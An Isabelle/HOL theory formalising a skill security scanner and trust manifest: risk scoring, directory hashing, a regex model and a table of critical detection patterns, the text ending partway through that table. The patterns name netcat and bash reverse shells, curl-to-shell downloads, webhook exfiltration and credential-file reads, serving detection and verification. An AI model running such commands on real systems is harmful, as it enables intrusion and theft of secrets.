theory Spec2Isabelle
  imports Main "HOL-Library.Char_ord" "HOL-Library.List_Lexorder" "HOL-Library.AList"
begin

section \<open>Risk aggregation (scan\_skill.py)\<close>

text \<open>
  A \<open>Finding\<close> of the scanner: the dataclass of scan\_skill.py, with its string level
  (\<open>CRITICAL\<close>, \<open>WARNING\<close>, \<open>INFO\<close>). The fields \<open>file\<close> and \<open>context\<close> of the
  source are \<open>file_name\<close> and \<open>snippet\<close> here.
\<close>

record finding =
  level :: string
  file_name :: string
  line :: nat
  pattern :: string
  description :: string
  snippet :: string

record scan_result =
  skill_name :: string
  files_scanned :: nat
  total_lines :: nat
  findings :: "finding list"

definition critical_count :: "scan_result \<Rightarrow> nat" where
  "critical_count r = length (filter (\<lambda>f. level f = ''CRITICAL'') (findings r))"

definition warning_count :: "scan_result \<Rightarrow> nat" where
  "warning_count r = length (filter (\<lambda>f. level f = ''WARNING'') (findings r))"

definition info_count :: "scan_result \<Rightarrow> nat" where
  "info_count r = length (filter (\<lambda>f. level f = ''INFO'') (findings r))"

text \<open>
  The body of the property \<open>risk_score\<close>, as a function of the three counts: the score
  starts at 0 and the three contributions are added one after the other.
\<close>

definition score :: "nat \<Rightarrow> nat \<Rightarrow> nat \<Rightarrow> nat" where
  "score c w i =
    (let s0 = 0;
         s1 = s0 + c * 30;
         s2 = s1 + min w 10 * 3;
         s3 = s2 + min i 5 * 1
     in min 100 s3)"

definition risk_score :: "scan_result \<Rightarrow> nat" where
  "risk_score r = score (critical_count r) (warning_count r) (info_count r)"

text \<open>The body of the property \<open>risk_level\<close>, as a function of the score.\<close>

definition verdict :: "nat \<Rightarrow> string" where
  "verdict s =
    (if s \<ge> 81 then ''BLOCKED''
     else if s \<ge> 51 then ''DANGER''
     else if s \<ge> 21 then ''CAUTION''
     else ''SAFE'')"

definition risk_level :: "scan_result \<Rightarrow> string" where
  "risk_level r = verdict (risk_score r)"


section \<open>Trust manifest (signet.py)\<close>

subsection \<open>The file tree and the digest\<close>

text \<open>
  A skill directory as \<open>os.walk\<close> sees it: a directory is the list of its entries in the
  order the file system lists them, which is arbitrary; a file is its bytes, or \<open>None\<close>
  when opening or reading it raises \<open>OSError\<close>. Symbolic links and unreadable
  directories are not modelled.
\<close>

datatype entry = File "string option" | Dir "(string \<times> entry) list"

type_synonym listing = "(string \<times> entry) list"

definition SKIP_DIRS :: "string list" where
  "SKIP_DIRS = [''.git'', ''node_modules'', ''__pycache__'', ''.venv'', ''venv'',
     ''.integrity'', ''.quarantine'', ''.snapshots'', ''.ledger'', ''.signet'']"


text \<open>
  \<open>hashlib.sha256\<close> is a library outside the repository: the model takes it as a
  parameter, a running digest with its three operations.
\<close>

record 's hashlib =
  h_new :: 's
  h_update :: "'s \<Rightarrow> string \<Rightarrow> 's"
  h_hexdigest :: "'s \<Rightarrow> string"

text \<open>\<open>iter(lambda: f.read(n), b"")\<close>: the successive reads of at most \<open>n\<close> bytes.\<close>

function chunks :: "nat \<Rightarrow> string \<Rightarrow> string list" where
  "chunks n bs = (if n = 0 \<or> bs = [] then [] else take n bs # chunks n (drop n bs))"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>(n, bs). length bs)") auto

definition file_hash :: "'s hashlib \<Rightarrow> string option \<Rightarrow> string option" where
  "file_hash hl f =
    (case f of
       None \<Rightarrow> None
     | Some bytes \<Rightarrow>
         Some (h_hexdigest hl
           (fold (\<lambda>chunk h. h_update hl h chunk) (chunks 8192 bytes) (h_new hl))))"

text \<open>The \<open>filenames\<close> and \<open>dirs\<close> that \<open>os.walk\<close> yields for a directory.\<close>

definition file_names :: "listing \<Rightarrow> string list" where
  "file_names es = [n. (n, e) \<leftarrow> es, case e of File _ \<Rightarrow> True | Dir _ \<Rightarrow> False]"

definition dir_names :: "listing \<Rightarrow> string list" where
  "dir_names es = [n. (n, e) \<leftarrow> es, case e of File _ \<Rightarrow> False | Dir _ \<Rightarrow> True]"

definition file_content :: "listing \<Rightarrow> string \<Rightarrow> string option" where
  "file_content es n = (case map_of es n of Some (File c) \<Rightarrow> c | _ \<Rightarrow> None)"

text \<open>\<open>str\<close> of a relative \<open>Path\<close>: its parts joined by the separator.\<close>

fun path_str :: "string list \<Rightarrow> string" where
  "path_str [] = ''.''"
| "path_str [p] = p"
| "path_str (p # ps) = p @ ''/'' @ path_str ps"

subsection \<open>skill\_hash\<close>

type_synonym file_hashes = "(string \<times> string) list"

text \<open>
  The inner loop of \<open>skill_hash\<close> over the sorted file names of one directory. The state
  is the running digest \<open>h\<close> and the dictionary \<open>file_hashes\<close>, an association list in
  insertion order. \<open>if fh:\<close> is false for \<open>None\<close> and for the empty string.
\<close>

fun hash_files ::
  "'s hashlib \<Rightarrow> string list \<Rightarrow> listing \<Rightarrow> string list \<Rightarrow> 's \<times> file_hashes
     \<Rightarrow> 's \<times> file_hashes" where
  "hash_files hl dir es [] st = st"
| "hash_files hl dir es (fname # rest) (h, fhs) =
    (let rel = path_str (dir @ [fname]) in
     case file_hash hl (file_content es fname) of
       None \<Rightarrow> hash_files hl dir es rest (h, fhs)
     | Some fh \<Rightarrow>
         if fh \<noteq> [] then
           hash_files hl dir es rest
             (h_update hl h (rel @ '':'' @ fh), AList.update rel fh fhs)
         else hash_files hl dir es rest (h, fhs))"

text \<open>
  \<open>os.walk\<close>, top down: the files of a directory in sorted order, then its
  subdirectories, those of \<open>SKIP_DIRS\<close> removed, in sorted order. \<open>dir\<close> is the list of
  the parts of the directory's path relative to the skill root.
\<close>

function walk ::
  "'s hashlib \<Rightarrow> string list \<Rightarrow> listing \<Rightarrow> 's \<times> file_hashes \<Rightarrow> 's \<times> file_hashes" where
  "walk hl dir es st =
     fold (\<lambda>d st'. case map_of es d of
                      Some (Dir sub) \<Rightarrow> walk hl (dir @ [d]) sub st'
                    | _ \<Rightarrow> st')
       (sort (filter (\<lambda>d. d \<notin> set SKIP_DIRS) (dir_names es)))
       (hash_files hl dir es (sort (file_names es)) st)"
  by pat_completeness auto
termination
proof -
  have sz: "size_list (size_prod (\<lambda>x. 0) size) sub < size_list (size_prod (\<lambda>x. 0) size) es"
    if "map_of es d = Some (Dir sub)" for es :: listing and d sub
    using that by (induction es) (auto split: if_splits)
  show ?thesis
    by (relation "measure (\<lambda>(hl, dir, es, st). size_list (size_prod (\<lambda>x. 0) size) es)")
       (auto dest: sz)
qed

declare walk.simps [simp del]

definition skill_hash :: "'s hashlib \<Rightarrow> listing \<Rightarrow> string \<times> file_hashes" where
  "skill_hash hl skill_dir =
     (let (h, fhs) = walk hl [] skill_dir (h_new hl, []) in (h_hexdigest hl h, fhs))"

text \<open>
  A transparent digest to evaluate the model on concrete trees: the state is the bytes
  fed so far and the hex digest shows them between angle brackets. Like SHA-256 it
  depends only on the concatenation of the updates and is never empty.
\<close>

definition plain_hashlib :: "string hashlib" where
  "plain_hashlib =
     \<lparr>h_new = [], h_update = (\<lambda>s c. s @ c), h_hexdigest = (\<lambda>s. ''<'' @ s @ ''>'')\<rparr>"

text \<open>
  Well-formed directories: no two entries of a directory share a name, and a name is
  not empty and holds no separator.
\<close>

fun wf_entry :: "entry \<Rightarrow> bool" where
  "wf_entry (File c) = True"
| "wf_entry (Dir es) =
     (distinct (map fst es) \<and>
      (\<forall>ne \<in> set es. fst ne \<noteq> [] \<and> CHR ''/'' \<notin> set (fst ne) \<and> wf_entry (snd ne)))"

subsection \<open>The order of the walk, and the order of the specification\<close>

text \<open>
  The files that \<open>skill_hash\<close> visits, in the order it visits them, each with the parts
  of its relative path and its content: a description of the walk without the digest,
  against which \<open>walk\<close> is proved.
\<close>

function walk_files :: "string list \<Rightarrow> listing \<Rightarrow> (string list \<times> string option) list" where
  "walk_files dir es =
     map (\<lambda>f. (dir @ [f], file_content es f)) (sort (file_names es)) @
     concat (map (\<lambda>d. case map_of es d of
                          Some (Dir sub) \<Rightarrow> walk_files (dir @ [d]) sub
                        | _ \<Rightarrow> [])
               (sort (filter (\<lambda>d. d \<notin> set SKIP_DIRS) (dir_names es))))"
  by pat_completeness auto
termination
proof -
  have sz: "size_list (size_prod (\<lambda>x. 0) size) sub < size_list (size_prod (\<lambda>x. 0) size) es"
    if "map_of es d = Some (Dir sub)" for es :: listing and d sub
    using that by (induction es) (auto split: if_splits)
  show ?thesis
    by (relation "measure (\<lambda>(dir, es). size_list (size_prod (\<lambda>x. 0) size) es)")
       (auto dest: sz)
qed

declare walk_files.simps [simp del]

text \<open>The part of the walk below the subdirectory \<open>d\<close> of a directory.\<close>

abbreviation sub_walk :: "string list \<Rightarrow> listing \<Rightarrow> string \<Rightarrow> (string list \<times> string option) list" where
  "sub_walk dir es d \<equiv>
     (case map_of es d of Some (Dir sub) \<Rightarrow> walk_files (dir @ [d]) sub | _ \<Rightarrow> [])"

text \<open>
  The files under the skill root, outside the excluded directories, as pairs of relative
  path and content.
\<close>

definition rel_files :: "listing \<Rightarrow> (string \<times> string option) list" where
  "rel_files es = map (\<lambda>(p, c). (path_str p, c)) (walk_files [] es)"

text \<open>The pairs of relative path and hash of the visited files that are hashed.\<close>

definition hashed :: "'s hashlib \<Rightarrow> (string list \<times> string option) list \<Rightarrow> (string \<times> string) list" where
  "hashed hl xs =
     concat (map (\<lambda>(p, c). case file_hash hl c of
                               None \<Rightarrow> []
                             | Some fh \<Rightarrow> if fh \<noteq> [] then [(path_str p, fh)] else []) xs)"

text \<open>Folding \<open>path + ":" + hash\<close> for a list of pairs into one running digest.\<close>

definition digest_of :: "'s hashlib \<Rightarrow> (string \<times> string) list \<Rightarrow> string" where
  "digest_of hl xs =
     h_hexdigest hl (fold (\<lambda>(rel, fh) h. h_update hl h (rel @ '':'' @ fh)) xs (h_new hl))"

text \<open>
  The composite hash as the specification words it: the relative paths of all hashed
  files sorted as one list, and \<open>path + ":" + hash\<close> folded in that order.
\<close>

definition sorted_composite :: "'s hashlib \<Rightarrow> listing \<Rightarrow> string" where
  "sorted_composite hl skill_dir =
     digest_of hl (sort_key fst (snd (skill_hash hl skill_dir)))"

subsection \<open>The manifest, sign and verify\<close>

text \<open>The record that \<open>cmd_sign\<close> stores for one skill.\<close>

record skill_record =
  composite_hash :: string
  files :: file_hashes
  signed_at :: string
  file_count :: nat






definition startswith :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "startswith s pre = (take (length pre) s = pre)"


text \<open>The body of the loop of \<open>cmd_sign\<close>: the record stored under the skill's name.\<close>

definition sign_skill :: "'s hashlib \<Rightarrow> string \<Rightarrow> listing \<Rightarrow> skill_record" where
  "sign_skill hl now skill_dir =
    (let (composite, fs) = skill_hash hl skill_dir in
     \<lparr>composite_hash = composite, files = fs, signed_at = now, file_count = length fs\<rparr>)"

























section \<open>Regular expressions (the part of \<open>re\<close> the scanners use)\<close>

text \<open>
  \<open>re\<close> is a library outside the repository. The model gives \<open>re.search\<close> a meaning of
  its own for the constructs the pattern tables use: a pattern is a tree, the one \<open>re\<close>'s
  own parser builds for the pattern string, and \<open>rmatch\<close> returns every position where a
  match that starts at a given position can end. A text is a list of characters with codes
  below 256; a position is the character before it, if any, and the text after it.
  \<open>ic\<close> is the flag \<open>re.IGNORECASE\<close>.
\<close>

definition code :: "char \<Rightarrow> nat" where
  "code c = of_char c"

definition lower_code :: "char \<Rightarrow> nat" where
  "lower_code c =
    (let n = code c in
     if (65 \<le> n \<and> n \<le> 90) \<or> (192 \<le> n \<and> n \<le> 214) \<or> (216 \<le> n \<and> n \<le> 222)
     then n + 32 else n)"

definition upper_code :: "nat \<Rightarrow> nat option" where
  "upper_code n =
    (if (97 \<le> n \<and> n \<le> 122) \<or> (224 \<le> n \<and> n \<le> 246) \<or> (248 \<le> n \<and> n \<le> 254)
     then Some (n - 32)
     else if n = 181 \<or> n = 255 then None else Some n)"

definition is_space :: "char \<Rightarrow> bool" where
  "is_space c =
    (let n = code c in (9 \<le> n \<and> n \<le> 13) \<or> (28 \<le> n \<and> n \<le> 32) \<or> n = 133 \<or> n = 160)"

definition is_digit :: "char \<Rightarrow> bool" where
  "is_digit c = (let n = code c in 48 \<le> n \<and> n \<le> 57)"

definition is_word :: "char \<Rightarrow> bool" where
  "is_word c =
    (let n = code c in
     (48 \<le> n \<and> n \<le> 57) \<or> (65 \<le> n \<and> n \<le> 90) \<or> n = 95 \<or> (97 \<le> n \<and> n \<le> 122)
     \<or> n = 170 \<or> n = 178 \<or> n = 179 \<or> n = 181 \<or> n = 185 \<or> n = 186
     \<or> (188 \<le> n \<and> n \<le> 190) \<or> (192 \<le> n \<and> n \<le> 214) \<or> (216 \<le> n \<and> n \<le> 246)
     \<or> (248 \<le> n \<and> n \<le> 255))"

datatype citem = Ch char | Rng char char | Spc | Dgt

datatype rx =
    Str string
  | Dot
  | Cls bool "citem list"
  | Seq rx rx
  | Alt rx rx
  | Rep nat "nat option" rx
  | WordB
  | NotAhead rx

type_synonym pos = "char option \<times> string"

fun in_item :: "bool \<Rightarrow> citem \<Rightarrow> char \<Rightarrow> bool" where
  "in_item ic (Ch x) c = (if ic then lower_code c = lower_code x else c = x)"
| "in_item ic (Rng a b) c =
    (if ic then
       (let l = lower_code c in
        (code a \<le> l \<and> l \<le> code b)
        \<or> (case upper_code l of None \<Rightarrow> False | Some u \<Rightarrow> code a \<le> u \<and> u \<le> code b))
     else code a \<le> code c \<and> code c \<le> code b)"
| "in_item ic Spc c = is_space c"
| "in_item ic Dgt c = is_digit c"

fun match_str :: "bool \<Rightarrow> string \<Rightarrow> pos \<Rightarrow> pos option" where
  "match_str ic [] p = Some p"
| "match_str ic (x # xs) (prev, []) = None"
| "match_str ic (x # xs) (prev, c # cs) =
    (if (if ic then lower_code c = lower_code x else c = x) then match_str ic xs (Some c, cs)
     else None)"

fun rx_weight :: "rx \<Rightarrow> nat" where
  "rx_weight (Str w) = 1"
| "rx_weight Dot = 1"
| "rx_weight (Cls neg items) = 1"
| "rx_weight (Seq r1 r2) = Suc (rx_weight r1 + rx_weight r2)"
| "rx_weight (Alt r1 r2) = Suc (rx_weight r1 + rx_weight r2)"
| "rx_weight (Rep lo hi r) = Suc (lo + (case hi of None \<Rightarrow> 0 | Some h \<Rightarrow> h) + rx_weight r)"
| "rx_weight WordB = 1"
| "rx_weight (NotAhead r) = Suc (rx_weight r)"

definition word_at :: "char option \<Rightarrow> bool" where
  "word_at c = (case c of None \<Rightarrow> False | Some x \<Rightarrow> is_word x)"

definition next_char :: "pos \<Rightarrow> char option" where
  "next_char p = (case snd p of [] \<Rightarrow> None | c # cs \<Rightarrow> Some c)"

function rmatch :: "bool \<Rightarrow> rx \<Rightarrow> pos \<Rightarrow> pos list" where
  "rmatch ic (Str w) p = (case match_str ic w p of None \<Rightarrow> [] | Some q \<Rightarrow> [q])"
| "rmatch ic Dot p =
    (case snd p of [] \<Rightarrow> [] | c # cs \<Rightarrow> if c = CHR 0x0A then [] else [(Some c, cs)])"
| "rmatch ic (Cls neg items) p =
    (case snd p of
       [] \<Rightarrow> []
     | c # cs \<Rightarrow> if (\<exists>i \<in> set items. in_item ic i c) \<noteq> neg then [(Some c, cs)] else [])"
| "rmatch ic (Seq r1 r2) p = concat (map (rmatch ic r2) (rmatch ic r1 p))"
| "rmatch ic (Alt r1 r2) p = rmatch ic r1 p @ rmatch ic r2 p"
| "rmatch ic (Rep lo hi r) p =
    (if 0 < lo then
       concat (map (rmatch ic (Rep (lo - 1) (map_option (\<lambda>h. h - 1) hi) r)) (rmatch ic r p))
     else if hi = Some 0 then [p]
     else p # concat (map (rmatch ic (Rep 0 (map_option (\<lambda>h. h - 1) hi) r))
                 (filter (\<lambda>q. length (snd q) < length (snd p)) (rmatch ic r p))))"
| "rmatch ic WordB p = (if word_at (fst p) \<noteq> word_at (next_char p) then [p] else [])"
| "rmatch ic (NotAhead r) p = (if rmatch ic r p = [] then [p] else [])"
  by pat_completeness auto
termination
  by (relation "measures [\<lambda>(ic, r, p). rx_weight r, \<lambda>(ic, r, p). length (snd p)]")
     (auto split: option.splits)

declare rmatch.simps [simp del]

fun starts :: "char option \<Rightarrow> string \<Rightarrow> pos list" where
  "starts prev [] = [(prev, [])]"
| "starts prev (c # cs) = (prev, c # cs) # starts (Some c) cs"

definition re_search :: "bool \<Rightarrow> rx \<Rightarrow> string \<Rightarrow> bool" where
  "re_search ic r s = (\<exists>p \<in> set (starts None s). rmatch ic r p \<noteq> [])"


abbreviation Star :: "rx \<Rightarrow> rx" where "Star r \<equiv> Rep 0 None r"
abbreviation Plus :: "rx \<Rightarrow> rx" where "Plus r \<equiv> Rep 1 None r"
abbreviation Opt :: "rx \<Rightarrow> rx" where "Opt r \<equiv> Rep 0 (Some 1) r"

section \<open>Line matcher (scan\_skill.py)\<close>

subsection \<open>The pattern tables\<close>

text \<open>
  Each row is the pattern string of the source, its tree, and the description. The
  dictionaries of the source are iterated in the order they are written.
\<close>

definition CRITICAL_PATTERNS :: "(string \<times> rx \<times> string) list" where
  "CRITICAL_PATTERNS = [
    ([CHR 0x5C] @ ''.ssh[/'' @ [CHR 0x5C, CHR 0x5C] @ '']'',
     Seq (Str ''.ssh'') (Cls False [Ch (CHR ''/''), Ch (CHR 0x5C)]),
     ''SSH key access''),
    ([CHR 0x5C] @ ''.aws[/'' @ [CHR 0x5C, CHR 0x5C] @ '']'',
     Seq (Str ''.aws'') (Cls False [Ch (CHR ''/''), Ch (CHR 0x5C)]),
     ''AWS credentials access''),
    ([CHR 0x5C] @ ''.openclaw[/'' @ [CHR 0x5C, CHR 0x5C] @ '']credentials'',
     Seq (Str ''.openclaw'') (Seq (Cls False [Ch (CHR ''/''), Ch (CHR 0x5C)]) (Str ''credentials'')),
     ''OpenClaw credentials access''),
    (''(open|read|load|write).*'' @ [CHR 0x5C] @ ''.clawdbot'',
     Seq (Alt (Str ''open'') (Alt (Str ''read'') (Alt (Str ''load'') (Str ''write'')))) (Seq (Star Dot) (Str ''.clawdbot'')),
     ''ClawdBot config file access''),
    ([CHR 0x5C] @ ''.clawdbot.*'' @ [CHR 0x5C] @ ''.env'',
     Seq (Str ''.clawdbot'') (Seq (Star Dot) (Str ''.env'')),
     ''ClawdBot .env access (ClawHavoc target!)''),
    (''(open|read|load).*'' @ [CHR 0x5C] @ ''.env'',
     Seq (Alt (Str ''open'') (Alt (Str ''read'') (Str ''load''))) (Seq (Star Dot) (Str ''.env'')),
     ''Environment file read''),
    (''dotenv'' @ [CHR 0x5C] @ ''.load|load_dotenv'',
     Alt (Str ''dotenv.load'') (Str ''load_dotenv''),
     ''Dotenv loading''),
    (''private[_-]?key|privatekey'',
     Seq (Str ''private'') (Alt (Seq (Opt (Cls False [Ch (CHR ''_''), Ch (CHR ''-'')])) (Str ''key'')) (Str ''key'')),
     ''Private key reference''),
    (''nc'' @ [CHR 0x5C] @ ''s+.*-e'',
     Seq (Str ''nc'') (Seq (Plus (Cls False [Spc])) (Seq (Star Dot) (Str ''-e''))),
     ''Netcat reverse shell''),
    (''bash'' @ [CHR 0x5C] @ ''s+-i'' @ [CHR 0x5C] @ ''s+.*'' @ [CHR 0x5C] @ ''/dev'' @ [CHR 0x5C] @ ''/tcp'',
     Seq (Str ''bash'') (Seq (Plus (Cls False [Spc])) (Seq (Str ''-i'') (Seq (Plus (Cls False [Spc])) (Seq (Star Dot) (Str ''/dev/tcp''))))),
     ''Bash reverse shell''),
    ([CHR 0x5C] @ ''/bin'' @ [CHR 0x5C] @ ''/sh'' @ [CHR 0x5C] @ ''s*'' @ [CHR 0x5C] @ ''|'' @ [CHR 0x5C] @ ''s*nc'',
     Seq (Str ''/bin/sh'') (Seq (Star (Cls False [Spc])) (Seq (Str ''|'') (Seq (Star (Cls False [Spc])) (Str ''nc'')))),
     ''Shell pipe to netcat''),
    (''python.*socket.*subprocess'',
     Seq (Str ''python'') (Seq (Star Dot) (Seq (Str ''socket'') (Seq (Star Dot) (Str ''subprocess'')))),
     ''Python reverse shell pattern''),
    (''socket'' @ [CHR 0x5C] @ ''..*connect.*shell'',
     Seq (Str ''socket.'') (Seq (Star Dot) (Seq (Str ''connect'') (Seq (Star Dot) (Str ''shell'')))),
     ''Socket-based shell''),
    (''pty'' @ [CHR 0x5C] @ ''.spawn'',
     Str ''pty.spawn'',
     ''PTY spawn (shell escape)''),
    (''curl'' @ [CHR 0x5C] @ ''s+.*'' @ [CHR 0x5C] @ ''|'' @ [CHR 0x5C] @ ''s*(ba)?sh'',
     Seq (Str ''curl'') (Seq (Plus (Cls False [Spc])) (Seq (Star Dot) (Seq (Str ''|'') (Seq (Star (Cls False [Spc])) (Seq (Opt (Str ''ba'')) (Str ''sh'')))))),
     ''Curl pipe to shell (DANGEROUS!)''),
    (''wget'' @ [CHR 0x5C] @ ''s+.*'' @ [CHR 0x5C] @ ''|'' @ [CHR 0x5C] @ ''s*(ba)?sh'',
     Seq (Str ''wget'') (Seq (Plus (Cls False [Spc])) (Seq (Star Dot) (Seq (Str ''|'') (Seq (Star (Cls False [Spc])) (Seq (Opt (Str ''ba'')) (Str ''sh'')))))),
     ''Wget pipe to shell (DANGEROUS!)''),
    (''curl'' @ [CHR 0x5C] @ ''s+.*>'' @ [CHR 0x5C] @ ''s*.*'' @ [CHR 0x5C] @ ''.sh'' @ [CHR 0x5C] @ ''s*&&'',
     Seq (Str ''curl'') (Seq (Plus (Cls False [Spc])) (Seq (Star Dot) (Seq (Str ''>'') (Seq (Star (Cls False [Spc])) (Seq (Star Dot) (Seq (Str ''.sh'') (Seq (Star (Cls False [Spc])) (Str ''&&'')))))))),
     ''Download and execute script''),
    (''wget'' @ [CHR 0x5C] @ ''s+.*&&'' @ [CHR 0x5C] @ ''s*chmod'' @ [CHR 0x5C] @ ''s*'' @ [CHR 0x5C] @ ''+x'',
     Seq (Str ''wget'') (Seq (Plus (Cls False [Spc])) (Seq (Star Dot) (Seq (Str ''&&'') (Seq (Star (Cls False [Spc])) (Seq (Str ''chmod'') (Seq (Star (Cls False [Spc])) (Str ''+x''))))))),
     ''Download and make executable''),
    (''discord'' @ [CHR 0x5C] @ ''.com'' @ [CHR 0x5C] @ ''/api'' @ [CHR 0x5C] @ ''/webhooks'',
     Str ''discord.com/api/webhooks'',
     ''Discord webhook exfiltration''),
    (''hooks'' @ [CHR 0x5C] @ ''.slack'' @ [CHR 0x5C] @ ''.com'',
     Str ''hooks.slack.com'',
     ''Slack webhook exfiltration''),
    (''glot'' @ [CHR 0x5C] @ ''.io'',
     Str ''glot.io'',
     ''glot.io (known malware host)''),
    (''pastebin'' @ [CHR 0x5C] @ ''.com'' @ [CHR 0x5C] @ ''/raw'',
     Str ''pastebin.com/raw'',
     ''Pastebin raw (code hosting)''),
    (''paste'' @ [CHR 0x5C] @ ''.ee|ghostbin|hastebin'',
     Alt (Str ''paste.ee'') (Alt (Str ''ghostbin'') (Str ''hastebin'')),
     ''Paste service (code hosting)''),
    (''raw'' @ [CHR 0x5C] @ ''.githubusercontent'' @ [CHR 0x5C] @ ''.com.*'' @ [CHR 0x5C] @ ''.sh'',
     Seq (Str ''raw.githubusercontent.com'') (Seq (Star Dot) (Str ''.sh'')),
     ''GitHub raw shell script''),
    (''crontab'' @ [CHR 0x5C] @ ''s+-'',
     Seq (Str ''crontab'') (Seq (Plus (Cls False [Spc])) (Str ''-'')),
     ''Crontab modification''),
    ([CHR 0x5C] @ ''/etc'' @ [CHR 0x5C] @ ''/cron'',
     Str ''/etc/cron'',
     ''System cron access''),
    (''systemctl'' @ [CHR 0x5C] @ ''s+(enable|start)'',
     Seq (Str ''systemctl'') (Seq (Plus (Cls False [Spc])) (Alt (Str ''enable'') (Str ''start''))),
     ''Systemd service manipulation''),
    (''LaunchAgents|LaunchDaemons'',
     Seq (Str ''Launch'') (Alt (Str ''Agents'') (Str ''Daemons'')),
     ''macOS persistence''),
    ([CHR 0x5C] @ ''.bashrc|'' @ [CHR 0x5C] @ ''.zshrc|'' @ [CHR 0x5C] @ ''.profile'',
     Seq (Str ''.'') (Alt (Str ''bashrc'') (Alt (Str ''zshrc'') (Str ''profile''))),
     ''Shell profile modification''),
    (''requests'' @ [CHR 0x5C] @ ''.(post|put|patch)'' @ [CHR 0x5C] @ ''s*'' @ [CHR 0x5C] @ ''([^)]*'' @ [CHR 0x5C] @ ''b(key|secret|token|password|cred)'',
     Seq (Str ''requests.'') (Seq (Seq (Str ''p'') (Alt (Str ''ost'') (Alt (Str ''ut'') (Str ''atch'')))) (Seq (Star (Cls False [Spc])) (Seq (Str ''('') (Seq (Star (Cls True [Ch (CHR '')'')])) (Seq WordB (Alt (Str ''key'') (Alt (Str ''secret'') (Alt (Str ''token'') (Alt (Str ''password'') (Str ''cred'')))))))))),
     ''Credential exfiltration attempt''),
    (''urllib.*urlopen.*POST'',
     Seq (Str ''urllib'') (Seq (Star Dot) (Seq (Str ''urlopen'') (Seq (Star Dot) (Str ''POST'')))),
     ''URL POST request''),
    (''curl'' @ [CHR 0x5C] @ ''s+.*-[dX]'' @ [CHR 0x5C] @ ''s*(POST|PUT)'',
     Seq (Str ''curl'') (Seq (Plus (Cls False [Spc])) (Seq (Star Dot) (Seq (Str ''-'') (Seq (Cls False [Ch (CHR ''d''), Ch (CHR ''X'')]) (Seq (Star (Cls False [Spc])) (Seq (Str ''P'') (Alt (Str ''OST'') (Str ''UT'')))))))),
     ''Curl POST/PUT command''),
    (''wget'' @ [CHR 0x5C] @ ''s+.*--post'',
     Seq (Str ''wget'') (Seq (Plus (Cls False [Spc])) (Seq (Star Dot) (Str ''--post''))),
     ''Wget POST command''),
    (''ngrok|localtunnel|serveo'',
     Alt (Str ''ngrok'') (Alt (Str ''localtunnel'') (Str ''serveo'')),
     ''Tunnel service usage''),
    (''eval'' @ [CHR 0x5C] @ ''s*'' @ [CHR 0x5C] @ ''('',
     Seq (Str ''eval'') (Seq (Star (Cls False [Spc])) (Str ''('')),
     ''eval() usage''),
    (''exec'' @ [CHR 0x5C] @ ''s*'' @ [CHR 0x5C] @ ''('',
     Seq (Str ''exec'') (Seq (Star (Cls False [Spc])) (Str ''('')),
     ''exec() usage''),
    (''subprocess.*shell'' @ [CHR 0x5C] @ ''s*='' @ [CHR 0x5C] @ ''s*True'',
     Seq (Str ''subprocess'') (Seq (Star Dot) (Seq (Str ''shell'') (Seq (Star (Cls False [Spc])) (Seq (Str ''='') (Seq (Star (Cls False [Spc])) (Str ''True'')))))),
     ''Shell injection risk''),
    (''os'' @ [CHR 0x5C] @ ''.system'' @ [CHR 0x5C] @ ''s*'' @ [CHR 0x5C] @ ''('',
     Seq (Str ''os.system'') (Seq (Star (Cls False [Spc])) (Str ''('')),
     ''os.system() command execution''),
    (''os'' @ [CHR 0x5C] @ ''.popen'' @ [CHR 0x5C] @ ''s*'' @ [CHR 0x5C] @ ''('',
     Seq (Str ''os.popen'') (Seq (Star (Cls False [Spc])) (Str ''('')),
     ''os.popen() command execution''),
    (''open'' @ [CHR 0x5C] @ ''s*'' @ [CHR 0x5C] @ ''([^)]*['' @ [CHR 0x22, CHR 0x5C, CHR 0x27] @ '']'' @ [CHR 0x5C] @ ''/etc'' @ [CHR 0x5C] @ ''/'',
     Seq (Str ''open'') (Seq (Star (Cls False [Spc])) (Seq (Str ''('') (Seq (Star (Cls True [Ch (CHR '')'')])) (Seq (Cls False [Ch (CHR 0x22), Ch (CHR 0x27)]) (Str ''/etc/''))))),
     ''/etc/ file access''),
    (''open'' @ [CHR 0x5C] @ ''s*'' @ [CHR 0x5C] @ ''([^)]*['' @ [CHR 0x22, CHR 0x5C, CHR 0x27] @ '']'' @ [CHR 0x5C] @ ''/usr'' @ [CHR 0x5C] @ ''/'',
     Seq (Str ''open'') (Seq (Star (Cls False [Spc])) (Seq (Str ''('') (Seq (Star (Cls True [Ch (CHR '')'')])) (Seq (Cls False [Ch (CHR 0x22), Ch (CHR 0x27)]) (Str ''/usr/''))))),
     ''/usr/ file access''),
    (''open'' @ [CHR 0x5C] @ ''s*'' @ [CHR 0x5C] @ ''([^)]*['' @ [CHR 0x22, CHR 0x5C, CHR 0x27] @ '']'' @ [CHR 0x5C] @ ''/root'' @ [CHR 0x5C] @ ''/'',
     Seq (Str ''open'') (Seq (Star (Cls False [Spc])) (Seq (Str ''('') (Seq (Star (Cls True [Ch (CHR '')'')])) (Seq (Cls False [Ch (CHR 0x22), Ch (CHR 0x27)]) (Str ''/root/''))))),
     ''/root/ file access''),
    (''os'' @ [CHR 0x5C] @ ''.symlink'',
     Str ''os.symlink'',
     ''Symlink creation''),
    (''shutil'' @ [CHR 0x5C] @ ''.rmtree'' @ [CHR 0x5C] @ ''s*'' @ [CHR 0x5C] @ ''([^)]*['' @ [CHR 0x22, CHR 0x5C, CHR 0x27] @ '']'' @ [CHR 0x5C] @ ''/'',
     Seq (Str ''shutil.rmtree'') (Seq (Star (Cls False [Spc])) (Seq (Str ''('') (Seq (Star (Cls True [Ch (CHR '')'')])) (Seq (Cls False [Ch (CHR 0x22), Ch (CHR 0x27)]) (Str ''/''))))),
     ''Root directory deletion''),
    (''rm'' @ [CHR 0x5C] @ ''s+-rf?'' @ [CHR 0x5C] @ ''s+'' @ [CHR 0x5C] @ ''/'',
     Seq (Str ''rm'') (Seq (Plus (Cls False [Spc])) (Seq (Str ''-r'') (Seq (Opt (Str ''f'')) (Seq (Plus (Cls False [Spc])) (Str ''/''))))),
     ''Dangerous rm command''),
    (''chmod'' @ [CHR 0x5C] @ ''s+777'',
     Seq (Str ''chmod'') (Seq (Plus (Cls False [Spc])) (Str ''777'')),
     ''World-writable permissions''),
    (''chmod'' @ [CHR 0x5C] @ ''s+[0-7]*[67][0-7]{2}'',
